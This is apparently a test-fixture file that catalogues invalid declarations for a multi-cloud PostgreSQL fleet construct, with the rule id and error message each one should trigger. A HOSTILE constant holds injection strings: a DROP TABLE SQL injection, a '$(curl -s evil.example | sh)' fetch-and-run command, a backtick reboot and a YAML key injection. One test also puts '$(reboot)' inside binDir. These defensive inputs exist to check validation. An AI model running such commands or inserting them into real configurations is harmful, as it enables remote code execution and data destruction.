/**
 * The bad-input catalogue: invalid declarations, each a change to the valid reference ledger fleet, with the
 * rule id and message fragment the user must see. Most come through `any` the way JavaScript callers,
 * JSON/YAML-driven platforms or careless casts would pass them.
 */

import { BackupSchedule, MachineImage, Weekday } from '../../lib';

export type Category =
  | 'wrong type' | 'empty list' | 'unknown region' | 'overlapping CIDRs' | 'impossible quorum' | 'geoshard mistake'
  | 'engine/version mismatch' | 'invalid name' | 'injection' | 'typo' | 'provider wiring';

export interface BadInput {
  readonly name: string;
  readonly category: Category;
  /** Breaks the (deep-copied) ledger declaration. */
  readonly change: (props: any) => void;
  /**
   * Rule id and a fragment (regular expression) of the finding the message must contain; `times`: how many findings of
   * that rule there must be (a fleet-wide value is reported once, where it was written).
   */
  readonly expected: readonly { readonly rule: string; readonly fragment: RegExp; readonly times?: number }[];
  /** Rules that must not report anything (advice derived from a value another rule already refuses). */
  readonly absent?: readonly string[];
}

/** 500 custom parameters with values that do not compress: a cloud-config no cloud takes. */
function manyParameters(): Record<string, string> {
  const out: Record<string, string> = {};
  let x = 12345;
  for (let i = 0; i < 500; i++) {
    let value = '';
    for (let j = 0; j < 40; j++) {
      x = (x * 1103515245 + 12345) % 2147483648;
      value += 'abcdefghijklmnopqrstuvwxyz0123456789'[x % 36];
    }
    out[`app.setting_${i}`] = value;
  }
  return out;
}

const HOSTILE = {
  sqlQuote: "x'; DROP TABLE accounts; --",
  shell: '$(curl -s evil.example | sh)',
  backticks: '`reboot`',
  yamlKeys: 'ok\nssl: off\nlisten: 0.0.0.0',
};

export const BAD_INPUTS: readonly BadInput[] = [
  // Wrong types through `any`.
  { name: 'props is not an object', category: 'wrong type', change: (p) => { for (const k of Object.keys(p)) delete p[k]; p.nodeGroups = 'use1,euw1'; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups: must be a list, got the string "use1,euw1"/ }] },
  { name: 'fleet name is a number', category: 'wrong type', change: (p) => { p.name = 42; },
    expected: [{ rule: 'DPG-TYPE', fragment: /name: must be a string, got number 42/ }] },
  { name: 'member count as text', category: 'wrong type', change: (p) => { p.nodeGroups[0].members = 'three'; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.members: must be a finite number, got the string "three"/ }] },
  { name: 'member count NaN', category: 'wrong type', change: (p) => { p.nodeGroups[1].members = NaN; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[1\] \(euw1\)\.members: must be a finite number, got number NaN/ }] },
  { name: 'node group is null', category: 'wrong type', change: (p) => { p.nodeGroups[2] = null; p.geoshards[0].nodeGroups = ['euw1']; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[2\]: must be an object, got null/ }] },
  { name: 'cloud not in the enum', category: 'wrong type', change: (p) => { p.nodeGroups[0].cloud = 'azure'; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.cloud: must be one of 'aws', 'gcp', got the string "azure"/ }] },
  { name: 'zones as a single string', category: 'wrong type', change: (p) => { p.nodeGroups[0].zones = 'us-east-1a'; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.zones: must be a list, got the string "us-east-1a"/ }] },
  { name: 'ttl Infinity', category: 'wrong type', change: (p) => { p.ha = { ttl: Infinity }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /ha\.ttl: must be a finite number, got number Infinity/ }] },
  { name: 'postgres parameters as a list', category: 'wrong type', change: (p) => { p.postgres = { parameters: ['work_mem=64MB'] }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /postgres\.parameters: must be an object, got a list/ }] },
  { name: 'parameter value as a number', category: 'wrong type', change: (p) => { p.postgres = { parameters: { max_connections: 200 } }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /postgres\.parameters\.max_connections: must be a string, got number 200/ }] },
  { name: 'snowflake ids as strings', category: 'wrong type', change: (p) => { p.nodeGroups[0].snowflakeNodeIds = ['1', '2', '3']; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.snowflakeNodeIds\[0\]: must be a finite number, got the string "1"/ }] },
  { name: 'failsafe mode as "yes"', category: 'wrong type', change: (p) => { p.ha = { failsafeMode: 'yes' }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /ha\.failsafeMode: must be true or false, got the string "yes"/ }] },
  { name: 'a billion members (no memory blow-up)', category: 'wrong type', change: (p) => { p.nodeGroups[0].members = 1e9; },
    expected: [{ rule: 'DPG-MEMBERS', fragment: /nodeGroups\[0\] \(use1\)\.members: 1000000000 is not a whole number in 1\.\.9/ }] },

  // Empty lists.
  { name: 'no node groups', category: 'empty list', change: (p) => { p.nodeGroups = []; p.geoshards = []; },
    expected: [{ rule: 'DPG-GROUPS', fragment: /nodeGroups: is empty\. Fix: declare at least one node group/ }] },
  { name: 'no zones', category: 'empty list', change: (p) => { p.nodeGroups[1].zones = []; },
    expected: [{ rule: 'DPG-REGION', fragment: /nodeGroups\[1\] \(euw1\)\.zones: is empty/ }] },
  { name: 'geoshard without node groups', category: 'empty list', change: (p) => { p.geoshards[0].nodeGroups = []; },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /geoshards\[0\] \(eu\)\.nodeGroups: is empty: a geography with no node group/ }] },
  { name: 'geoshard without tables', category: 'empty list', change: (p) => { p.geoshards[0].tables = []; },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /geoshards\[0\] \(eu\)\.tables: is empty/ }] },
  { name: 'partition without values', category: 'empty list', change: (p) => { p.geoshards[0].tables[0].values = []; },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /geoshards\[0\] \(eu\)\.tables\[0\]\.values: is empty/ }] },

  // Unknown regions and zones.
  { name: 'AWS region that does not exist', category: 'unknown region', change: (p) => { p.nodeGroups[0].region = 'us-east-9'; },
    expected: [{ rule: 'DPG-REGION', fragment: /nodeGroups\[0\] \(use1\)\.region: 'us-east-9' is not an AWS region this library knows\. Fix: use one of us-east-1/ }] },
  { name: 'GCP region on an AWS group', category: 'unknown region', change: (p) => { p.nodeGroups[1].region = 'europe-west1'; },
    expected: [{ rule: 'DPG-REGION', fragment: /'europe-west1' is not an AWS region/ }] },
  { name: 'AWS region on a GCP group', category: 'unknown region', change: (p) => { p.nodeGroups[2].region = 'eu-central-1'; },
    expected: [{ rule: 'DPG-REGION', fragment: /nodeGroups\[2\] \(euw3\)\.region: 'eu-central-1' is not a GCP region/ }] },
  { name: 'region named like an object property', category: 'unknown region', change: (p) => { p.nodeGroups[0].region = '__proto__'; },
    expected: [{ rule: 'DPG-REGION', fragment: /'__proto__' is not an AWS region/ }] },
  { name: 'zone of another region', category: 'unknown region', change: (p) => { p.nodeGroups[0].zones = ['us-east-1a', 'us-east-1b', 'us-west-2a']; },
    expected: [{ rule: 'DPG-REGION', fragment: /'us-west-2a' is not a zone of us-east-1/ }] },

  // Overlapping and unusable CIDRs.
  { name: 'two explicit CIDRs overlap', category: 'overlapping CIDRs', change: (p) => { p.nodeGroups[0].cidr = '10.10.0.0/16'; p.nodeGroups[1].cidr = '10.10.64.0/20'; },
    expected: [{ rule: 'DPG-CIDR', fragment: /nodeGroups\[1\] \(euw1\)\.cidr: 10\.10\.64\.0\/20 overlaps 10\.10\.0\.0\/16/ }] },
  { name: 'explicit CIDR over a carved one', category: 'overlapping CIDRs', change: (p) => { p.nodeGroups[2].cidr = '10.64.16.0/22'; },
    expected: [{ rule: 'DPG-CIDR', fragment: /10\.64\.16\.0\/22 overlaps 10\.64\.16\.0\/20 of nodeGroups\[1\] \(euw1\)/ }] },
  { name: 'same group number twice (same carved CIDR)', category: 'overlapping CIDRs', change: (p) => { p.nodeGroups[1].number = 1; },
    expected: [{ rule: 'DPG-GROUPS', fragment: /node group number 1 is used more than once/ }] },
  { name: 'public fleet CIDR', category: 'overlapping CIDRs', change: (p) => { p.network.fleetCidr = '0.0.0.0/0'; },
    expected: [{ rule: 'DPG-CIDR', fragment: /network\.fleetCidr: 0\.0\.0\.0\/0 is not a private \(RFC 1918\) range/ }] },
  { name: 'client range open to the internet', category: 'overlapping CIDRs', change: (p) => { p.network.clientCidrs = ['0.0.0.0/0']; },
    expected: [{ rule: 'DPG-CIDR', fragment: /network\.clientCidrs\[0\]: 0\.0\.0\.0\/0 is not a private range; the database must never be reachable from the internet/ }] },
  { name: 'exporters scraped from the internet', category: 'overlapping CIDRs', change: (p) => { p.monitoring = { scrapeCidrs: ['10.250.0.0/24', '0.0.0.0/0'] }; },
    expected: [{ rule: 'DPG-MONITORING', fragment: /monitoring\.scrapeCidrs\[1\]: 0\.0\.0\.0\/0 is not a private \(RFC 1918\) range; the exporters must never be reachable from the internet\. Fix: / }] },
  { name: 'a public monitoring range', category: 'overlapping CIDRs', change: (p) => { p.monitoring = { scrapeCidrs: ['203.0.113.0/24'] }; },
    expected: [{ rule: 'DPG-MONITORING', fragment: /monitoring\.scrapeCidrs\[0\]: 203\.0\.113\.0\/24 is not a private/ }] },
  { name: 'a monitoring range with host bits, and one listed twice', category: 'overlapping CIDRs',
    change: (p) => { p.monitoring = { scrapeCidrs: ['10.250.0.1/24', '10.251.0.0/24', '10.251.0.0/24'] }; },
    expected: [{ rule: 'DPG-MONITORING', fragment: /monitoring\.scrapeCidrs\[0\]: '10\.250\.0\.1\/24' is not an IPv4 CIDR/ },
      { rule: 'DPG-MONITORING', fragment: /monitoring\.scrapeCidrs: 10\.251\.0\.0\/24 is listed more than once/ }] },
  { name: 'monitoring switched on with a string', category: 'wrong type', change: (p) => { p.monitoring = { enabled: 'yes', scrapeCidrs: '10.250.0.0/24' }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /monitoring\.enabled: must be true or false, got the string "yes"/ },
      { rule: 'DPG-TYPE', fragment: /monitoring\.scrapeCidrs: must be a list, got the string "10\.250\.0\.0\/24"/ }] },
  { name: 'a misspelt monitoring property', category: 'typo', change: (p) => { p.monitoring = { scrapeCidr: ['10.250.0.0/24'] }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /monitoring\.scrapeCidr/ }] },

  // Impossible quorums and HA settings.
  { name: 'even etcd quorum', category: 'impossible quorum', change: (p) => { p.etcd = { size: 4 }; },
    expected: [{ rule: 'DPG-ETCD-SIZE', fragment: /4 etcd members is an even quorum/ }] },
  { name: 'fleet-wide etcd size of 2, reported once where it was written', category: 'impossible quorum', change: (p) => { p.etcd = { size: 2 }; },
    expected: [{ rule: 'DPG-ETCD-SIZE', fragment: /\] etcd\.size: 2 etcd members is an even quorum/, times: 1 }] },
  { name: 'no members', category: 'impossible quorum', change: (p) => { p.nodeGroups[0].members = 0; },
    expected: [{ rule: 'DPG-MEMBERS', fragment: /nodeGroups\[0\] \(use1\)\.members: 0 is not a whole number in 1\.\.9/ }], absent: ['DPG-SYNC'] },
  { name: '500 postgres parameters', category: 'impossible quorum', change: (p) => { p.postgres = { parameters: manyParameters() }; },
    expected: [{ rule: 'DPG-USER-DATA', fragment: /Fix: postgres\.parameters holds 500 entries \(\d+ bytes in every member's Patroni configuration\)/ }] },
  { name: 'single etcd member', category: 'impossible quorum', change: (p) => { p.nodeGroups[2].etcd = { size: 1 }; },
    expected: [{ rule: 'DPG-ETCD-SIZE', fragment: /nodeGroups\[2\] \(euw3\)\.etcd\.size: 1 etcd members cannot give a fault-tolerant quorum/ }] },
  { name: 'quorum of three over two zones', category: 'impossible quorum', change: (p) => { p.nodeGroups[0].zones = ['us-east-1a', 'us-east-1b']; },
    expected: [{ rule: 'DPG-ETCD-SPREAD', fragment: /3 etcd members over 2 zone\(s\) puts 2 in one zone/ }] },
  { name: 'co-located quorum larger than the group', category: 'impossible quorum', change: (p) => { p.nodeGroups[1].etcd = { size: 5 }; },
    expected: [{ rule: 'DPG-ETCD-COLOCATED', fragment: /a co-located etcd quorum of 5 needs 5 Postgres members, but the group has 3/ }] },
  { name: 'every standby synchronous', category: 'impossible quorum', change: (p) => { p.ha = { synchronousStandbys: 2 }; },
    expected: [{ rule: 'DPG-SYNC', fragment: /2 synchronous standby\(s\) out of 2 standby\(s\): losing one standby would block.*Fix: use ha\.synchronousStandbys <= 1, or give the group at least 4 members, or set ha\.synchronousMode to 'off'/ }] },
  { name: 'Patroni timing rule broken', category: 'impossible quorum', change: (p) => { p.ha = { ttl: 20, loopWait: 10, retryTimeout: 10 }; },
    expected: [{ rule: 'DPG-PATRONI-TIMING', fragment: /loop_wait 10 \+ 2 x retry_timeout 10 = 30 exceeds ttl 20/ }] },

  // Geoshard mistakes.
  { name: 'geoshard names a missing group', category: 'geoshard mistake', change: (p) => { p.geoshards[0].nodeGroups = ['euw1', 'fra1']; },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /'fra1' is not a node group of this fleet/ }] },
  { name: 'partition in two geoshards', category: 'geoshard mistake',
    change: (p) => { p.geoshards.push({ name: 'us', nodeGroups: ['use1'], tables: [{ table: 'ledger.entries', partition: 'ledger.entries_eu', values: ['us'] }] }); },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /partition 'ledger\.entries_eu' is in geoshards 'eu' and 'us'/ }] },
  { name: 'geoshard table also global', category: 'geoshard mistake', change: (p) => { p.replication.globalTables.push('ledger.entries'); },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /'ledger\.entries' is also a global table, so its rows would replicate outside 'eu'/ }] },
  { name: 'partition is the parent table', category: 'geoshard mistake', change: (p) => { p.geoshards[0].tables[0].partition = 'ledger.entries'; },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /the partition 'ledger\.entries' is the parent table itself/ }] },
  { name: 'partition value listed twice', category: 'geoshard mistake', change: (p) => { p.geoshards[0].tables[0].values = ['eu', 'eu']; },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /value 'eu' is listed twice/ }] },
  { name: 'duplicate geoshard names', category: 'geoshard mistake', change: (p) => { p.geoshards.push({ ...p.geoshards[0], tables: [{ table: 'ledger.entries', partition: 'ledger.entries_eu2', values: ['ch'] }] }); },
    expected: [{ rule: 'DPG-NAME', fragment: /geoshard name 'eu' is used more than once/ }] },

  // Engine / version / package mismatches.
  { name: 'Spock from the PGDG repository', category: 'engine/version mismatch', change: (p) => { p.postgres = { packageSource: 'pgdg' }; },
    expected: [{ rule: 'DPG-PACKAGES', fragment: /Spock needs pgEdge's patched PostgreSQL, but packageSource is 'pgdg'/ }] },
  { name: 'Spock on PostgreSQL 9.6', category: 'engine/version mismatch', change: (p) => { p.postgres = { version: 9.6 }; },
    expected: [{ rule: 'DPG-PACKAGES', fragment: /support PostgreSQL 16 to 18, not 9\.6/ }] },
  { name: 'native multi-master on PostgreSQL 15', category: 'engine/version mismatch',
    change: (p) => { p.replication = { engine: 'native' }; p.postgres = { packageSource: 'pgdg', version: 15 }; },
    expected: [{ rule: 'DPG-PACKAGES', fragment: /native multi-master replication needs PostgreSQL 16 or later/ }] },
  { name: 'golden image source without machine images', category: 'engine/version mismatch', change: (p) => { p.postgres = { packageSource: 'image' }; },
    expected: [{ rule: 'DPG-MACHINE-IMAGE', fragment: /nodeGroups\[2\] \(euw3\)\.machineImage: is missing.*MachineImage\.gcpImage/ }] },
  { name: 'an AWS AMI on the GCP node group', category: 'engine/version mismatch',
    change: (p) => { p.nodeGroups[2].machineImage = MachineImage.awsAmiLookup('self', 'dpg-*'); },
    expected: [{ rule: 'DPG-MACHINE-IMAGE', fragment: /is an AWS image, but node group 'euw3' runs on GCP/ }] },
  { name: 'binDir with a shell substitution', category: 'injection', change: (p) => { p.postgres = { binDir: '/usr/lib/$(reboot)/bin' }; },
    expected: [{ rule: 'DPG-MACHINE-IMAGE', fragment: /postgres\.binDir: .* is not an absolute directory path/ }] },
  { name: 'pglogical with pgEdge packages', category: 'engine/version mismatch', change: (p) => { p.replication = { engine: 'pglogical' }; p.postgres = { packageSource: 'pgedge' }; },
    expected: [{ rule: 'DPG-PACKAGES', fragment: /pgEdge's repository ships Spock, not pglogical/ }] },
  { name: 'distro PostgreSQL 17 on Ubuntu 24.04', category: 'engine/version mismatch', change: (p) => { p.replication = { engine: 'pglogical' }; p.postgres = { packageSource: 'distro', version: 17 }; },
    expected: [{ rule: 'DPG-PACKAGES', fragment: /ubuntu-24\.04 ships only PostgreSQL 16/ }] },
  { name: 'Debian 12 on GCP (no cloud-init)', category: 'engine/version mismatch', change: (p) => { p.nodeGroups[2].image = 'debian-12'; },
    expected: [{ rule: 'DPG-IMAGE', fragment: /Debian 12 images on GCP do not run cloud-init/ }] },

  // Names that are not DNS labels or Postgres identifiers.
  { name: 'AWS tag key reserved by AWS', category: 'invalid name', change: (p) => { p.governance = { awsTags: { 'aws:owner': 'x' } }; },
    expected: [{ rule: 'DPG-GOVERNANCE', fragment: /governance\.awsTags\.aws:owner: keys starting with 'aws:' are reserved by AWS/ }] },
  { name: 'AWS tag that replaces the construct\'s own', category: 'invalid name', change: (p) => { p.governance = { awsTags: { Name: 'mine' } }; },
    expected: [{ rule: 'DPG-GOVERNANCE', fragment: /governance\.awsTags\.Name: is a tag the construct sets itself/ }] },
  { name: 'GCP label with upper case', category: 'invalid name', change: (p) => { p.governance = { gcpLabels: { 'Cost-Center': 'DB 1' } }; },
    expected: [{ rule: 'DPG-GOVERNANCE', fragment: /governance\.gcpLabels\.Cost-Center: is not a GCP label key/ },
      { rule: 'DPG-GOVERNANCE', fragment: /the value "DB 1" is not a GCP label value .*Fix: e\.g\. "db-1"/ }] },
  { name: 'permissions boundary that is a role, not a policy', category: 'invalid name',
    change: (p) => { p.governance = { permissionsBoundaryArn: 'arn:aws:iam::123456789012:role/boundary' }; },
    expected: [{ rule: 'DPG-GOVERNANCE', fragment: /governance\.permissionsBoundaryArn: "arn:aws:iam::123456789012:role\/boundary" is not the ARN of an IAM policy/ }] },
  { name: 'IAM path without its trailing slash', category: 'invalid name', change: (p) => { p.governance = { iamPath: '/platform' }; },
    expected: [{ rule: 'DPG-GOVERNANCE', fragment: /governance\.iamPath: "\/platform" is not an IAM path/ }] },
  { name: 'security groups on a GCP node group', category: 'provider wiring', change: (p) => { p.nodeGroups[2].extraSecurityGroupIds = ['sg-0123456789abcdef0']; },
    expected: [{ rule: 'DPG-GOVERNANCE', fragment: /nodeGroups\[2\] \(euw3\)\.extraSecurityGroupIds: security groups are AWS's/ }] },
  { name: 'security group id that is a name', category: 'invalid name', change: (p) => { p.nodeGroups[0].extraSecurityGroupIds = ['corp-baseline']; },
    expected: [{ rule: 'DPG-GOVERNANCE', fragment: /extraSecurityGroupIds\[0\]: "corp-baseline" is not a security group id/ }] },
  { name: 'AWS key of another region', category: 'provider wiring',
    change: (p) => { p.encryption = { awsKmsKeys: [{ region: 'eu-west-1', keyArn: 'arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab' }] }; },
    expected: [{ rule: 'DPG-KEYS', fragment: /encryption\.awsKmsKeys\[0\]\.keyArn: is a key of us-east-1, but encrypts the disks and secrets of eu-west-1/ }] },
  { name: 'AWS key given by its alias', category: 'invalid name',
    change: (p) => { p.encryption = { awsKmsKeys: [{ region: 'us-east-1', keyArn: 'arn:aws:kms:us-east-1:123456789012:alias/databases' }] }; },
    expected: [{ rule: 'DPG-KEYS', fragment: /is an alias: the machines' role is granted kms:Decrypt on a key ARN.*Fix: give the key's ARN/ }] },
  { name: 'key for a region without node groups, named twice', category: 'provider wiring',
    change: (p) => {
      const keyArn = 'arn:aws:kms:ap-south-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab';
      p.encryption = { awsKmsKeys: [{ region: 'ap-south-1', keyArn }, { region: 'ap-south-1', keyArn }] };
    },
    expected: [{ rule: 'DPG-KEYS', fragment: /awsKmsKeys\[0\]\.region: "ap-south-1" is not a region of the fleet's AWS node groups \(eu-west-1, us-east-1\)/ },
      { rule: 'DPG-KEYS', fragment: /encryption\.awsKmsKeys: names region ap-south-1 twice/ }] },
  { name: 'GCP disk key of another location', category: 'provider wiring',
    change: (p) => { p.encryption = { gcpDiskKmsKeys: [{ region: 'europe-west3', keyName: 'projects/security-keys/locations/europe-west1/keyRings/db/cryptoKeys/disks' }] }; },
    expected: [{ rule: 'DPG-KEYS', fragment: /gcpDiskKmsKeys\[0\]\.keyName: is a key of location europe-west1, but encrypts the disks of europe-west3/ }] },
  { name: 'GCP secrets key that is regional', category: 'provider wiring',
    change: (p) => { p.encryption = { gcpSecretsKmsKeyName: 'projects/security-keys/locations/europe-west3/keyRings/db/cryptoKeys/secrets' }; },
    expected: [{ rule: 'DPG-KEYS', fragment: /gcpSecretsKmsKeyName: is a key of location europe-west3: the fleet's secrets are replicated automatically, which takes only a key in the global location/ }] },
  { name: 'Route 53 zone id with its /hostedzone/ prefix', category: 'invalid name',
    change: (p) => { p.network = { ...p.network, existingDnsZone: { awsHostedZoneId: '/hostedzone/Z0123456789ABCDEFGHIJ' } }; },
    expected: [{ rule: 'DPG-DNS-ZONE', fragment: /existingDnsZone\.awsHostedZoneId: "\/hostedzone\/Z0123456789ABCDEFGHIJ" is not a Route 53 hosted zone id/ }] },
  { name: 'Cloud DNS zone given by its DNS name, project without a zone', category: 'invalid name',
    change: (p) => { p.network = { ...p.network, existingDnsZone: { gcpManagedZone: 'ledger.db.internal.' } }; },
    expected: [{ rule: 'DPG-DNS-ZONE', fragment: /gcpManagedZone: "ledger\.db\.internal\." is not a Cloud DNS managed zone name/ }] },
  // Existing networks (p.nodeGroups: use1 us-east-1, euw1 eu-west-1, euw3 GCP europe-west3; 3 members, 3 zones each).
  { name: 'existing AWS network with a subnet per zone missing', category: 'provider wiring',
    change: (p) => {
      p.network = { ...p.network, awsInterRegion: 'external', interconnect: 'external' };
      p.nodeGroups[0].existingNetwork = { awsVpcId: 'vpc-0123456789abcdef0', subnets: [{ id: 'subnet-0123456789abcdef0', cidr: '10.20.1.0/24' }] };
    },
    expected: [{ rule: 'DPG-EXISTING-NETWORK', fragment: /use1\)\.existingNetwork\.subnets: lists 1 subnet\(s\) for 3 zone\(s\).*Fix: one subnet per zone, in the order of zones/ }] },
  { name: 'existing subnets too small for the planned addresses, shared by two zones', category: 'overlapping CIDRs',
    change: (p) => {
      p.network = { ...p.network, awsInterRegion: 'external', interconnect: 'external' };
      const subnet = { id: 'subnet-0123456789abcdef0', cidr: '10.20.1.0/29' };
      p.nodeGroups[0].existingNetwork = { awsVpcId: 'vpc-0123456789abcdef0', subnets: [subnet, subnet, { id: 'subnet-89abcdef', cidr: '10.20.2.0/24' }] };
    },
    expected: [{ rule: 'DPG-EXISTING-NETWORK', fragment: /subnets\[0\]\.cidr: 10\.20\.1\.0\/29 cannot hold the planned addresses: they reach offset 10 of the subnet \(10\.20\.1\.10 is outside it or reserved\)/ },
      { rule: 'DPG-EXISTING-NETWORK', fragment: /names subnet subnet-0123456789abcdef0 twice: two zones cannot share a subnet/ },
      { rule: 'DPG-CIDR', fragment: /subnets\[1\]: 10\.20\.1\.0\/29 overlaps 10\.20\.1\.0\/29/ }] },
  { name: 'existing network in a fleet that still asks for peering and the HA VPN', category: 'provider wiring',
    change: (p) => {
      p.nodeGroups[0].existingNetwork = { awsVpcId: 'vpc-0123456789abcdef0', subnets: ['10.20.1.0/24', '10.20.2.0/24', '10.20.3.0/24'].map((cidr, i) => ({ id: `subnet-0000000${i}`, cidr })) };
    },
    expected: [{ rule: 'DPG-EXISTING-NETWORK', fragment: /network\.awsInterRegion: is PEERING, but use1 brings its network.*Fix: AwsInterRegion\.EXTERNAL/ },
      { rule: 'DPG-EXISTING-NETWORK', fragment: /network\.interconnect: is HA_VPN, but use1 brings a network.*Fix: Interconnect\.EXTERNAL/ }] },
  { name: 'existing GCP subnetwork of another region, with a cidr too', category: 'provider wiring',
    change: (p) => {
      p.network = { ...p.network, interconnect: 'external' };
      p.nodeGroups[2].cidr = '10.40.0.0/20';
      p.nodeGroups[2].existingNetwork = {
        gcpNetwork: 'projects/network-host-prod/global/networks/shared',
        subnets: [{ id: 'projects/network-host-prod/regions/europe-west1/subnetworks/databases', cidr: '10.40.0.0/22' }],
      };
    },
    expected: [{ rule: 'DPG-EXISTING-NETWORK', fragment: /euw3\)\.existingNetwork\.subnets\[0\]\.id: is a subnetwork of europe-west1, but the group runs in europe-west3/ },
      { rule: 'DPG-EXISTING-NETWORK', fragment: /euw3\)\.cidr: is given, but the group brings its network.*Fix: remove cidr/ }] },
  { name: 'WAL retention above half the disk', category: 'engine/version mismatch', change: (p) => { p.replication.walRetentionPercent = 80; },
    expected: [{ rule: 'DPG-WAL-RETENTION', fragment: /replication\.walRetentionPercent: 80 is not a whole percent from 5 to 50 of the data disk/ }] },
  { name: 'WAL retention budget of a small disk lost within minutes', category: 'impossible quorum', change: (p) => { p.nodeGroups[1].dataDisk = { sizeGiB: 4 }; },
    expected: [{ rule: 'DPG-WAL-RETENTION', fragment: /euw1\)\.dataDisk\.sizeGiB: 20% of 4 GiB is a WAL budget of 819 MB, of which max_wal_size, wal_keep_size and two segments take 1184 MB: 0 MB are left for an absent peer's slots.*Fix: a data disk of at least 11 GiB/ }] },
  { name: 'a max_wal_size the WAL budget cannot count', category: 'engine/version mismatch', change: (p) => { p.postgres = { parameters: { max_wal_size: '1.5GB' } }; },
    expected: [{ rule: 'DPG-WAL-RETENTION', fragment: /postgres\.parameters\.max_wal_size: "1\.5GB" is not a size the WAL budget can count.*Fix: a whole number with kB, MB, GB or TB, e.g\. 2GB/ }] },
  { name: 'an anti-entropy period of a fraction of a minute', category: 'engine/version mismatch', change: (p) => { p.replication.antiEntropyMinutes = 0.5; },
    expected: [{ rule: 'DPG-ANTI-ENTROPY', fragment: /replication\.antiEntropyMinutes: 0\.5 is not a whole number of minutes from 0 to 10080.*Fix: e\.g\. 60/ }] },
  { name: 'an anti-entropy column of a table that does not replicate', category: 'engine/version mismatch',
    change: (p) => { p.replication.antiEntropyIgnoredColumns = ['ledger.audit.seen_at', 'ledger.accounts']; },
    expected: [{ rule: 'DPG-ANTI-ENTROPY', fragment: /antiEntropyIgnoredColumns\[0\]: 'ledger\.audit' is not a replicated table.*Fix:/ },
      { rule: 'DPG-ANTI-ENTROPY', fragment: /antiEntropyIgnoredColumns\[1\]: 'ledger\.accounts' is not schema\.table\.column.*Fix: e\.g\. 'public\.items\.arrived_at'/ }] },
  { name: 'fewer reserved node groups than declared', category: 'impossible quorum', change: (p) => { p.replication.maxNodeGroups = 2; },
    expected: [{ rule: 'DPG-MAX-GROUPS', fragment: /replication\.maxNodeGroups: 2 is below the 3 node groups declared.*Fix: at least 3/ }] },
  { name: 'more reserved node groups than a fleet holds', category: 'impossible quorum', change: (p) => { p.replication.maxNodeGroups = 101; },
    expected: [{ rule: 'DPG-MAX-GROUPS', fragment: /replication\.maxNodeGroups: 101 is not a whole number from 1 to 100.*leave it out for 16/ }] },
  { name: 'backups on without full backups', category: 'impossible quorum', change: (p) => { p.backup = { fullSchedule: BackupSchedule.never() }; },
    expected: [{ rule: 'DPG-BACKUP', fragment: /backup\.fullSchedule: is never.*Fix: give a schedule.*or set enabled: false/, times: 1 }] },
  { name: 'backup schedules that never run', category: 'impossible quorum',
    change: (p) => { p.backup = { fullSchedule: BackupSchedule.weekly(Weekday.SUNDAY, 24), differentialSchedule: BackupSchedule.everyHours(0), incrementalSchedule: BackupSchedule.daily(3, 60) }; },
    expected: [{ rule: 'DPG-BACKUP', fragment: /backup\.fullSchedule: has hour 24, so it never runs.*Fix: use 0 to 23/, times: 3 },
      { rule: 'DPG-BACKUP', fragment: /backup\.differentialSchedule: is every 0 hours.*Fix: use 1 to 12 hours/ },
      { rule: 'DPG-BACKUP', fragment: /backup\.incrementalSchedule: has minute 60.*Fix: use 0 to 59/ }] },
  { name: 'backup retention 0 and a zero archive timeout in one group', category: 'impossible quorum',
    change: (p) => { p.backup = { retentionFullBackups: 0 }; p.nodeGroups[2].backup = { archiveTimeoutSeconds: 0 }; },
    expected: [{ rule: 'DPG-BACKUP', fragment: /[^.]backup\.retentionFullBackups: is 0.*Fix: keep 1 to 100 full backups/, times: 2 },
      { rule: 'DPG-BACKUP', fragment: /nodeGroups\[2\] \(euw3\)\.backup\.archiveTimeoutSeconds: is 0.*Fix: use 30 to 3600 seconds/ }] },
  { name: 'a bucket prefix no cloud takes', category: 'invalid name', change: (p) => { p.backup = { bucketNamePrefix: 'Google_Backups' }; },
    expected: [{ rule: 'DPG-BACKUP', fragment: /backup\.bucketNamePrefix: 'Google_Backups' cannot start a bucket name/ }] },
  { name: 'a bucket prefix in a node group', category: 'typo', change: (p) => { p.nodeGroups[0].backup = { bucketNamePrefix: 'acme-ledger' }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.backup.*bucketNamePrefix/ }] },
  { name: 'a backup schedule given as text', category: 'wrong type', change: (p) => { p.backup = { fullSchedule: '0 1 * * 0' }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /backup\.fullSchedule: is not a BackupSchedule.*Fix: use BackupSchedule\.weekly/ }] },
  { name: 'a restore from a group that does not exist, to a time without an offset', category: 'typo',
    change: (p) => { p.nodeGroups.push({ name: 'use1-copy', cloud: 'aws', region: 'us-east-1', restoreFrom: { nodeGroup: 'Use1', targetTime: '2026-11-27 10:14:59' } }); },
    expected: [{ rule: 'DPG-RESTORE', fragment: /nodeGroups\[3\] \(use1-copy\)\.restoreFrom\.nodeGroup: 'Use1' is not a node group name.*Fix: name a node group of this fleet \(declared: use1, euw1, euw3/ },
      { rule: 'DPG-RESTORE', fragment: /restoreFrom\.targetTime: '2026-11-27 10:14:59' is not an ISO-8601 time.*explicit UTC offset.*Fix: write e\.g\. '2026-11-27T10:14:59Z'/ }] },
